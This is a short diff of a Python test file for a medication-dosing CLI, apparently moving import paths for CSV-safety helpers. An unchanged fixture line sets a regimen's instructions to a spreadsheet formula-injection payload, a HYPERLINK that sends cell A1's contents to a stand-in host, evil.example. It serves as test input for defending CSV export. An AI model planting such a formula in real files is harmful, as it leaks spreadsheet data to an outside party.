@@ -11,7 +11,7 @@ import pytest
 from click.testing import CliRunner
 
 from dosing.cli import main
-from dosing.io.csv_out import neutralise, safe_cell, safe_frame, write_csv
+from dosing.io.write.csv import neutralise, safe_cell, safe_frame, write_csv
 from tests.seed_variants import private_config  # noqa: F401  (autouse: keeps $XDG_CONFIG_HOME private)
 
 
@@ -109,7 +109,7 @@ regimens = ["x", "y"]
 [[regimens]]
 id = "x"
 drug = "Interleukin-2 ×10⁶"
-dose = { amount = 1, unit = "MIU" }   # a unit must be a known one (dosing/units.py)
+dose = { amount = 1, unit = "MIU" }   # a unit must be a known one (dosing/protocol/units.py)
 route = "subcutaneous"
 times = ["09:00"]
 instructions = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for instructions")'
